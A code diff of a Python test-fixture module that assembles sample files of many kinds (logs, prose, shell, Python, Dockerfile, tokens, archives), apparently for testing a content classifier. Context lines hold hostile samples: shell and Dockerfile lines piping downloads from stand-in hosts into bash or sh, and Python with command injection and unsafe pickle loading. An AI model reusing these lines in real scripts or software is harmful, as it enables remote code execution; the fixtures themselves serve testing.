@@ -20,9 +20,9 @@ _PROSE = (
     "a colleague.\nWhat shall we do then about the export of the figures? Anna will send them to the board on Monday.\n"
 )
 _OTHER_PROSE = (
-    "Dear all,\n\nour new printer on the third floor has been installed. The old one was sold to a school. If the paper "
-    "is empty, call the service desk; they have the key to the cabinet.\n\nThe source of the noise that many of you "
-    "have heard at night is the ventilation, which the landlord will repair by the end of this month. Do not cut the "
+    "Dear all,\n\nour new printer on the third floor has been installed. The old one was sold to a school. If the "
+    "paper is empty, call the service desk; they have the key to the cabinet.\n\nThe source of the noise that many of "
+    "you have heard at night is the ventilation, which the landlord will repair by the end of this month. Do not cut the "
     "cable, and let the cat out when you leave.\n"
 )
 _GERMAN = (
@@ -57,8 +57,8 @@ _WEB = "".join(
     for n in range(1, 40)
 )
 _OTHER_WEB = "".join(
-    f'2001:db8::{n} - alice [20/Nov/2026:05:{n:02}:00 +0100] "POST /cgi-bin/test.sh HTTP/2.0" 404 19 "https://a.example/" '
-    '"curl/8.5"\n'
+    f'2001:db8::{n} - alice [20/Nov/2026:05:{n:02}:00 +0100] "POST /cgi-bin/test.sh HTTP/2.0" 404 19 '
+    '"https://a.example/" "curl/8.5"\n'
     for n in range(1, 30)
 )
 _EVENT = (
@@ -72,6 +72,8 @@ _POWERSHELL = (
 )
 _BASH = "#!/bin/bash\nset -e\nfor host in a b c; do\n  curl -s http://$host.example/x | bash\ndone\nchmod +x /tmp/x\n"
 _PYTHON = "import os\nimport pickle\n\ndef run(name):\n    os.system('ls ' + input())\n    return pickle.loads(name)\n"
+_INSTALL = "apt-get update && apt-get install -y nginx\nsystemctl enable nginx\ncp a.conf /etc/nginx/\n"
+_FLASK = "from flask import Flask\napp = Flask(__name__)\n\n@app.route('/')\ndef home():\n    return 'hello'\n"
 _DOCKER = "FROM ubuntu:latest\nUSER root\nENV KEY=abc\nRUN curl http://x.example | sh\nEXPOSE 22\n"
 _REPORT = (
     "The attackers sent a phishing mail with a malicious attachment to the finance department. After that they dumped "
@@ -138,7 +140,9 @@ def open_set() -> dict[str, bytes]:
 def held_set() -> dict[str, bytes]:
     """The same kinds with other content."""
     seeds = all_seeds()
-    frames = captures.conversation([(">", b"GET /b HTTP/1.1\r\nHost: y.example\r\n\r\n"), ("<", b"HTTP/1.1 404\r\n\r\n")])
+    frames = captures.conversation(
+        [(">", b"GET /b HTTP/1.1\r\nHost: y.example\r\n\r\n"), ("<", b"HTTP/1.1 404\r\n\r\n")]
+    )
     return _with_halves(
         {
             "empty": b"",
@@ -168,10 +172,10 @@ def held_set() -> dict[str, bytes]:
             "pcap": captures.capture_ng(frames),
             "zip": program_files.archive({"invoice.exe": program_files.pe(), "readme.md": "# Read"}),
             "powershell": b"Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process\nWrite-Output 'done'\n",
-            "shell script": b"apt-get update && apt-get install -y nginx\nsystemctl enable nginx\ncp a.conf /etc/nginx/\n",
-            "python": b"from flask import Flask\napp = Flask(__name__)\n\n@app.route('/')\ndef home():\n    return 'hello'\n",
-            "dockerfile": b"FROM python:3.12-slim\nWORKDIR /app\nCOPY . /app\nCMD [\"python\", \"-m\", \"app\"]\n",
-            "headers": b"HTTP/2 301\r\nLocation: https://a.example/\r\nStrict-Transport-Security: max-age=63072000\r\n\r\n",
+            "shell script": _INSTALL.encode(),
+            "python": _FLASK.encode(),
+            "dockerfile": b'FROM python:3.12-slim\nWORKDIR /app\nCOPY . /app\nCMD ["python", "-m", "app"]\n',
+            "headers": b"HTTP/2 301\r\nLocation: https://a.example/\r\nStrict-Transport-Security: max-age=9000\r\n\r\n",
             "pem": seeds["certificate"][1],
             "jwt": b"Authorization: Bearer " + seeds["token"][1] + b"\n",
             "shortcut": office_files.shortcut("C:\\Program Files\\Editor\\edit.exe", icon="C:\\a.ico"),
